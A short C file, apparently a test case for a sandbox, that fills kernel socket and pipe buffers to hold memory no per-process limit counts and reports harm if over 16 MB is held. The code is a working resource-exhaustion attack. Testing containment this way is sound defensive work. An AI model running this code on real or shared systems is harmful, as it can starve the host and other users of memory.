/* Puts memory away in sockets and pipes, where no limit of a process counts it. */
#include "attack.h"
static size_t fill(int fd) {
    static char block[1 << 16];
    size_t all = 0;
    fcntl(fd, F_SETFL, O_NONBLOCK);
    for (ssize_t put; (put = write(fd, block, sizeof block)) > 0;) all += put;
    while (write(fd, block, 1) == 1) all++;
    return all;
}
static void attack(void) {
    size_t all = 0;
    int pair[2];
    for (int i = 0; i < 2000 && socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0; i++) {
        int most = 1 << 30;
        setsockopt(pair[0], SOL_SOCKET, SO_SNDBUF, &most, sizeof most);
        setsockopt(pair[1], SOL_SOCKET, SO_SNDBUF, &most, sizeof most);
        all += fill(pair[0]) + fill(pair[1]);
    }
    for (int i = 0; i < 2000 && pipe(pair) == 0; i++) {
        fcntl(pair[1], F_SETPIPE_SZ, 1 << 20);
        all += fill(pair[1]);
    }
    if (all > (16 << 20)) harm("%zu bytes in the kernel", all);
}
